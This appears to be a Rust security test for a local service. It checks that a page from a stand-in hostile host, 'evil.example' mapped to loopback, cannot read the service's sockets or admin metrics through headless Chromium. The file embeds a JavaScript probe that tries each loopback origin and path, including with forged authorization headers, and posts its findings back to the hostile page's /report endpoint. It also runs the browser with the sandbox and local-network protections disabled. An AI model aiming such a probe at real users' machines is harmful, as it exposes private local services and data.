//! A page in a browser on this machine, which reaches loopback for whoever wrote the
//! page. Debian's Chromium is asked, with its own protection of local networks off.

use std::convert::Infallible;
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Output, Stdio};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE};
use hyper::service::service_fn;
use hyper::{Method, Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio::sync::mpsc;

use super::sockets::Sockets;
use super::{PATHS, assert_tells_nothing, host};
use crate::harness::host::{Setup, signal_process};
use crate::harness::tool::tool;

/// The name that the page's author has, and lets resolve to this machine.
const NAME: &str = "evil.example";

/// Tries every origin in every way that a page has, and reports what it could read.
const SCRIPT: &str = r#"
const dynamodb = {
  'content-type': 'application/x-amz-json-1.0', 'x-amz-date': '20200101T000000Z',
  'x-amz-target': 'DynamoDB_20120810.ListTables',
  authorization: 'AWS4-HMAC-SHA256 Credential=x/20200101/us-east-1/dynamodb/aws4_request, ' +
    'SignedHeaders=host, Signature=0',
};
const ways = [
  ...PATHS.flatMap(path => [[path, {}], [path, {mode: 'no-cors'}],
    [path, {headers: {authorization: 'Bearer x'}}]]),
  ['/', {method: 'POST', body: '{}', headers: dynamodb}],
  ['/', {method: 'POST', body: '{}', mode: 'no-cors'}],
];
const read = [];
async function look(origin, [path, options]) {
  try {
    const signal = AbortSignal.timeout(20000);
    const answer = await fetch(origin + path, {...options, signal});
    const text = await answer.text();
    if (answer.type !== 'opaque') read.push({origin, path, status: answer.status, text});
  } catch {}
}
(async () => {
  for (const origin of ORIGINS) await Promise.all(ways.map(way => look(origin, way)));
  await fetch('/report', {method: 'POST', body: JSON.stringify(read)});
})();
"#;

struct Site {
    port: u16,
    /// What pages reported.
    reports: mpsc::UnboundedReceiver<Value>,
}

impl Site {
    /// Every answer of it may be read from everywhere, as those of an open service.
    async fn open(page: impl FnOnce(u16) -> String) -> Site {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let page: Arc<str> = page(port).into();
        let (report, reports) = mpsc::unbounded_channel();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (page, report) = (page.clone(), report.clone());
                let service = service_fn(move |asked| answer(page.clone(), report.clone(), asked));
                tokio::spawn(
                    hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service),
                );
            }
        });
        Site { port, reports }
    }
}

async fn answer(
    page: Arc<str>,
    report: mpsc::UnboundedSender<Value>,
    asked: Request<Incoming>,
) -> Result<Response<Full<Bytes>>, Infallible> {
    let is_report = asked.method() == Method::POST && asked.uri().path() == "/report";
    let body = asked.into_body().collect().await;
    if let (true, Ok(body)) = (is_report, body) {
        let _ = report.send(serde_json::from_slice(&body.to_bytes()).unwrap());
    }
    let answer = Response::builder()
        .header(CONTENT_TYPE, "text/html")
        .header(ACCESS_CONTROL_ALLOW_ORIGIN, "*")
        .body(Full::new(Bytes::copy_from_slice(page.as_bytes())));
    Ok(answer.unwrap())
}

/// Dropped, it is ended with all its processes, and its folder removed.
struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Drop for Browser {
    fn drop(&mut self) {
        // The negative number is its group, which it leads.
        signal_process(-i32::try_from(self.child.id()).unwrap(), libc::SIGKILL);
        let _ = self.child.wait();
    }
}

fn chromium(profile: &TempDir) -> Command {
    let mut command = tool("chromium");
    command
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
        ])
        .args(["--no-first-run", "--disable-background-networking"])
        .args([
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
        ])
        .arg("--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests")
        .arg(format!("--host-resolver-rules=MAP {NAME} 127.0.0.1"))
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0);
    command
}

impl Browser {
    fn open(url: &str) -> Browser {
        let profile = tempfile::tempdir().unwrap();
        let child = chromium(&profile).arg(url).stdout(Stdio::null()).spawn();
        Browser {
            child: child.unwrap(),
            _profile: profile,
        }
    }
}

/// What a page of that very origin has before it.
fn dumped(url: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let dumped: Output = chromium(&profile)
        .args(["--dump-dom", url])
        .output()
        .unwrap();
    String::from_utf8(dumped.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn page_of_another_origin_reads_nothing_of_any_socket() {
    let host = host().await;
    // An open service is read, so that the page would read a socket that is as open.
    let control = Site::open(|_| "open to everybody".to_owned()).await;
    let sockets = Sockets::of(&host).tcp;
    assert_eq!(sockets.len(), 2);
    let ports = sockets.iter().map(std::net::SocketAddr::port);
    let ports: Vec<u16> = ports.chain([control.port]).collect();
    let origins: Vec<String> = ports
        .iter()
        .flat_map(|port| {
            ["127.0.0.1", "localhost", NAME].map(|host| format!("http://{host}:{port}"))
        })
        .collect();
    let mut site = Site::open(|_| {
        let (origins, paths) = (json!(origins), json!(PATHS));
        format!("<script>const ORIGINS = {origins}, PATHS = {paths};{SCRIPT}</script>")
    })
    .await;
    let _browser = Browser::open(&format!("http://{NAME}:{}/", site.port));
    let waited = tokio::time::timeout(Duration::from_secs(240), site.reports.recv()).await;
    let report = waited.expect("the browser reported nothing").unwrap();
    let read = report.as_array().unwrap();
    let of_control = format!(":{}", control.port);
    let (open, own): (Vec<&Value>, Vec<&Value>) = read
        .iter()
        .partition(|one| one["origin"].as_str().unwrap().ends_with(&of_control));
    assert!(open.len() >= 3 * PATHS.len(), "{open:?}");
    assert!(own.is_empty(), "{own:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn page_whose_name_was_rebound_to_the_admin_listener_reads_nothing_of_it() {
    let host = Setup::new().start();
    let port = host.admin.rsplit(':').next().unwrap().to_owned();
    // By the listener's own name it is all there.
    let own = dumped(&format!("http://localhost:{port}/metrics"));
    assert!(own.contains("hearth_connections"), "{own}");
    for path in PATHS {
        let rebound = dumped(&format!("http://{NAME}:{port}{path}"));
        assert_tells_nothing(&rebound, path);
        assert!(rebound.contains("admin.hosts"), "{path}: {rebound}");
    }
}
